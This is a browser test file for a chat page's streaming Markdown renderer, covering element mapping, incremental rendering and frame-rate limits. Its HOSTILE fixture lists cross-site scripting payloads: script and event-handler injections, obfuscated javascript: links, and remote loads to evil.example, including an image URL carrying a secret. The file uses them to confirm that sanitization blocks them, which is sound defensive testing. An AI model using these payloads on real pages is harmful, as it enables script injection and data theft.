"""Markdown on the live page: what a model writes becomes elements, none of which runs or loads."""

from __future__ import annotations

import json
import random
from itertools import pairwise

import pytest
from tests.helpers.browser import BROWSER_TESTS

pytestmark = BROWSER_TESTS

DOCUMENT = """\
# Title
Words with *stress*, **weight**, ~~loss~~ and `code <b>`,
a second line and a [link](https://example.org/a?b=c&d "t") to [it][ref].

### Deep

- one
- two
  with more

  1. inner
  2. inner `x`

- three

> quoted
> > twice

7. seven
8. eight

| a | b |
|:--|--:|
| 1 | **2** |
| | 4 |

```python
def f(x):

    return x < 1
```

Then __init__ and __debug__:

   if indented:
       it is code

    four are, too

***

[ref]: https://example.net/
Last words, &copy; <https://example.com/auto>\\
and a break
"""
# (name, Markdown, the elements and text that are to be seen)
HOSTILE = {
    "script": "<script>window.hit = 1</script>",
    "image": "<img src=x onerror='window.hit = 1'>",
    "frame": "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "vector": "<svg onload=window.hit=1><a xlink:href=javascript:window.hit=1>x</a></svg>",
    "style": "<style>@import 'https://evil.example/s.css';</style>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "link element": "<link rel=prefetch href=https://evil.example/p>",
    "base": "<base href=https://evil.example/>",
    "form": "<form action=https://evil.example/><button autofocus>Go</button></form>",
    "comment": "<!-- --><p onclick=window.hit=1>x",
    "javascript link": "[x](javascript:window.hit=1)",
    "spelled link": "[x](&#106;avascript:window.hit=1) [y](java&Tab;script:window.hit=1)",
    "upper link": "[x](JaVaScRiPt:window.hit=1) <javascript:window.hit=1>",
    "data link": "[x](data:text/html,<script>window.hit=1</script>)",
    "file link": "[x](file:///etc/passwd) [y](vbscript:x)",
    "other schemes": "[x](ftp://evil.example/) [y](intent://z) ![z](data:image/png;base64,AA==)",
    "own link": "[x](/abort) [y](//evil.example/y) [z](#turns)",
    "referred link": "[x]\n\n[x]: javascript:window.hit=1",
    "title": '[x](https://evil.example/ "\' onmouseover=window.hit=1")',
    "remote image": "![x](https://evil.example/i.png?secret) ![y](/live)",
    "data image": "![x](data:image/svg+xml,<svg onload=window.hit=1>)",
    "image in a link": "[![x](https://evil.example/i.png)](https://evil.example/)",
    "code": "```<img/src=x>\n</code></pre><script>window.hit = 1</script>\n```",
    "language": '```" onclick=window.hit=1 x="\ncode\n```',
    "entities": "&lt;script&gt;window.hit = 1&lt;/script&gt;",
    "table": "| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |",
    "ids": "# location\n\n<a id=turns name=asked>x</a>",
}
# of one kind each, so that a part of them that is not ended yet is of that kind, too
LARGE = {
    "paragraph": "word " * 20_000,
    "code": "```\n" + "print('x')\n" * 9_000,
    "list": "- item\n" * 4_000,
    "table": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 2_000,
    "paragraphs": "Some *words* of it.\n\n" * 4_000,
    "stars": "*a **b " * 3_000,
    "brackets": "[![" * 5_000,
    "quotes": ">" * 20_000,
    "nested": "".join("  " * depth + "- a\n" for depth in range(200)),
}
SETUP = """async () => {
  const { Markdown } = await import("/page/conversation/markdown.js");
  window.make = (parts, isWhole = true) => {
    const made = new Markdown("Answer 1");
    parts.forEach((part, index) => made.update(part, isWhole && index === parts.length - 1));
    return made.element;
  };
}"""


@pytest.fixture
def viewer(look, front):
    viewer = look(front, kind="text", is_fed=True)
    viewer.page.evaluate(SETUP)
    return viewer


def markup(viewer, *parts: str) -> str:
    """What is made of texts of which each is a beginning of the next, as HTML."""
    found: str = viewer.page.evaluate(f"make({json.dumps(parts)}).innerHTML")
    return found


def test_markdown_becomes_elements(viewer):
    viewer.page.evaluate(f"document.body.append(make([{json.dumps(DOCUMENT)}]))")
    shown = viewer.page.locator("body > .markdown")

    def texts(selector: str) -> list[str]:
        return [text.strip() for text in shown.locator(selector).all_text_contents()]

    assert texts("h4") == ["Title"]
    assert texts("h5") == ["Deep"]  # a level below the one before, whatever was written
    assert texts("em") == ["stress"]
    assert texts("strong") == ["weight", "2"]
    assert texts("s") == ["loss"]
    assert texts("p > code") == ["code <b>"]
    assert texts("a") == ["link", "it", "https://example.com/auto"]
    assert shown.locator("a").first.get_attribute("href") == "https://example.org/a?b=c&d"
    assert shown.locator("a").first.get_attribute("rel") == "noopener noreferrer nofollow"
    assert texts("li > ol > li") == ["inner", "inner x"]
    assert shown.locator("ol[start='7'] > li").count() == 2
    assert texts("blockquote blockquote") == ["twice"]
    assert texts("th") == ["a", "b"]
    assert texts("td") == ["1", "2", "", "4"]
    assert shown.locator("td").nth(1).evaluate("it => it.style.textAlign") == "right"
    assert texts("pre") == [
        "def f(x):\n\n    return x < 1",
        "if indented:\n    it is code\n\n four are, too",
    ]
    assert texts(".code-head span") == ["python", ""]
    assert "Then __init__ and __debug__:" in texts("p")
    assert shown.locator("hr").count() == 1
    assert shown.locator("p").last.evaluate("it => it.innerText") == (
        "Last words, © https://example.com/auto\nand a break"
    )


def test_what_grows_is_what_comes_at_once(viewer):
    """Character by character, and in parts as they may come."""
    chance = random.Random(0)
    pieces = [*DOCUMENT.split("\n\n"), *HOSTILE.values(), "\r\n", "\r", "\t- x", "", "```", "   y"]
    documents = [DOCUMENT] + [
        "\n\n".join(chance.sample(pieces, 8)).replace("\n\n", chance.choice(["\n\n", "\n"]))
        for _ in range(30)
    ]
    for text in documents:
        whole = markup(viewer, text)
        cuts = sorted(chance.sample(range(len(text)), min(20, len(text))))
        assert markup(viewer, *(text[:cut] for cut in cuts), text) == whole, text
    letters = [DOCUMENT[:cut] for cut in range(len(DOCUMENT) + 1)]
    assert markup(viewer, *letters) == markup(viewer, DOCUMENT)


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_runs_and_nothing_is_loaded(viewer, name):
    viewer.requests.clear()
    viewer.ask("Once", mode="chat")
    viewer.feed(content=HOSTILE[name])
    viewer.feed(reasoning_content=HOSTILE[name])
    viewer.feed(tool_calls=[{"index": 0, "function": {"name": HOSTILE[name], "arguments": "{"}}])
    viewer.feed(finish_reason="stop")
    viewer.finish()
    viewer.show("tokens")
    viewer.show("text")
    for summary in viewer.page.locator("summary").all():
        summary.click()
    answer = viewer.page.locator(".answer")
    names = set(
        answer.evaluate("it => [...it.querySelectorAll('*')].map((each) => each.localName)")
    )
    known = "div p h4 h5 h6 ul ol li blockquote table thead tbody tr th td strong em s a br hr"
    known += " code pre span button details summary"
    assert names <= set(known.split())
    attributes = answer.evaluate(
        "it => [...it.querySelectorAll('*')].flatMap((each) => each.getAttributeNames())"
    )
    ours = "class href title target rel tabindex role aria-label type open data-said style scope"
    assert set(attributes) <= {*ours.split(), "start"}
    for link in answer.locator("a").all():
        assert (link.get_attribute("href") or "").startswith("https://evil.example/")
    for element in answer.locator(".body *").all():
        if element.evaluate("it => it.localName !== 'a'"):
            element.dispatch_event("click")
        element.dispatch_event("mouseover")
    assert viewer.page.evaluate("window.hit") is None
    assert all(url.endswith("/live") for url in viewer.requests), viewer.requests
    assert viewer.errors == []


def test_a_link_is_followed_in_a_tab_of_its_own_when_it_is_clicked(viewer):
    viewer.page.context.route("https://evil.example/*", lambda route: route.fulfill(body="there"))
    viewer.ask("Once", mode="chat")
    viewer.feed(content="![picture](https://evil.example/i.png)")
    viewer.finish()
    assert viewer.text == "Image: picture"
    with viewer.page.context.expect_page() as opened:
        viewer.page.locator(".answer a").click()
    tab = opened.value
    tab.wait_for_load_state()
    assert tab.evaluate("[opener, document.referrer]") == [None, ""]
    tab.evaluate("window.violations = []")
    tab.close()


def test_a_page_cannot_make_markup_of_text(viewer):
    """Trusted Types: what a later mistake would write is refused by the browser."""
    said = viewer.page.evaluate(
        """() => {
          try { document.body.innerHTML = "<b>"; } catch (error) { return error.name; }
        }"""
    )
    assert said == "TypeError"
    viewer.wait_for("violations.length === 1")
    viewer.page.evaluate("violations.length = 0")
    viewer.errors.clear()


def test_each_update_parses_the_last_block_alone(viewer):
    """Counted in characters, over an answer of many blocks."""
    viewer.page.evaluate(
        """async () => {
          const { default: MarkdownIt } = await import("/page/vendor/markdown-it.esm.min.mjs");
          const parse = MarkdownIt.prototype.parse;
          window.numParsed = 0;
          MarkdownIt.prototype.parse = function (text, env) {
            window.numParsed += text.length;
            return parse.call(this, text, env);
          };
        }"""
    )
    block = "A paragraph of some *length*, as they are.\n\n- one\n- two\n\n```\ncode\n```\n\n"
    text = block * 100
    step = 40
    markup(viewer, *(text[:end] for end in range(0, len(text) + step, step)))
    num_updates = len(text) / step
    longest = len(block)
    assert 0 < viewer.page.evaluate("numParsed") < num_updates * (longest + step)


def test_a_block_of_code_that_grows_stays_the_same_element(viewer):
    viewer.ask("Once", mode="chat")
    viewer.feed(content="Look:\n\n```python\nfirst\n")
    viewer.wait_for("document.querySelector('.code code')?.textContent === 'first\\n'")
    copy = viewer.page.locator(".code button")
    copy.focus()
    code = viewer.page.locator(".code code").element_handle()
    viewer.feed(content="second\n")
    viewer.feed(content="```\n\nand *more*")
    viewer.finish()
    assert code.evaluate("it => [it.isConnected, it.textContent]") == [True, "first\nsecond\n"]
    assert copy.evaluate("it => it === document.activeElement")
    assert viewer.page.locator(".markdown em").inner_text() == "more"


def test_an_answer_is_shown_at_most_once_a_frame(viewer):
    viewer.ask("Once", mode="chat")
    viewer.wait_for("window.feed")
    counted = viewer.page.evaluate(
        """async () => {
          let numFrames = 0, numChanges = 0;
          const count = () => { numFrames += 1; requestAnimationFrame(count); };
          requestAnimationFrame(count);
          const body = document.querySelector(".turn:last-child .numbers");
          const watch = { childList: true, characterData: true, subtree: true };
          new MutationObserver(() => { numChanges += 1; }).observe(body, watch);
          const choice = (content) => ({ index: 0, delta: { content }, finish_reason: null });
          for (let each = 0; each < 2000; each += 1) {
            feed({ id: "x", choices: [choice(`word ${each} `)] });
            if (each % 20 === 0) await new Promise((go) => setTimeout(go));
          }
          finish();
          await new Promise((go) => {
            const end = () => document.getElementById("turns").ariaBusy === "false";
            const look = () => (end() ? go() : requestAnimationFrame(look));
            look();
          });
          return [numFrames, numChanges];
        }"""
    )
    num_frames, num_changes = counted
    assert 0 < num_changes <= num_frames + 2  # and one at the end, which does not wait
    assert "word 1999" in viewer.text


def test_rendering_takes_a_quarter_of_the_time_at_most(viewer):
    """With a clock of the test's: frames of 16 ms, renderings that take 20 ms."""
    renderings = viewer.page.evaluate(
        """async () => {
          const { Frame } = await import("/page/frame.js");
          const real = [performance.now, requestAnimationFrame];
          let now = 0, waiting = [], begins = [];
          performance.now = () => now;
          window.requestAnimationFrame = (call) => waiting.push(call);
          const frame = new Frame(() => { begins.push(now); now += 20; });
          for (let each = 0; each < 100; each += 1) {
            frame.ask();
            frame.ask();
            now += 16;
            for (const call of waiting.splice(0)) call();
          }
          frame.ask();
          frame.flush();
          frame.flush();
          [performance.now, window.requestAnimationFrame] = real;
          return begins;
        }"""
    )
    pauses = [after - before - 20 for before, after in pairwise(renderings)]
    assert len(pauses) > 10
    assert min(pauses[:-1]) >= 60  # the last rendering was asked for at once
    assert max(pauses) < 60 + 16


@pytest.mark.parametrize("name", LARGE)
def test_a_large_answer_leaves_the_page_to_its_reader(viewer, name):
    """The more a rendering takes, the fewer there are: the time in between stays."""
    text = LARGE[name]
    viewer.ask("Once", mode="chat")
    viewer.wait_for("window.feed")
    viewer.page.evaluate(
        """async (text) => {
          const size = Math.ceil(text.length / 300);
          for (let at = 0; at < text.length; at += size) {
            const choice = { index: 0, delta: { content: text.slice(at, at + size) } };
            feed({ id: "x", choices: [choice] });
            await new Promise((go) => setTimeout(go));
          }
          finish();
        }""",
        text,
    )
    viewer.wait_for_end()
    length = "document.querySelector('.turn:last-child .body').innerHTML.length"
    assert viewer.page.evaluate(length) > 100
    viewer.page.locator("#prompt").fill("still here")
    assert viewer.page.locator("#prompt").input_value() == "still here"
    assert viewer.errors == []
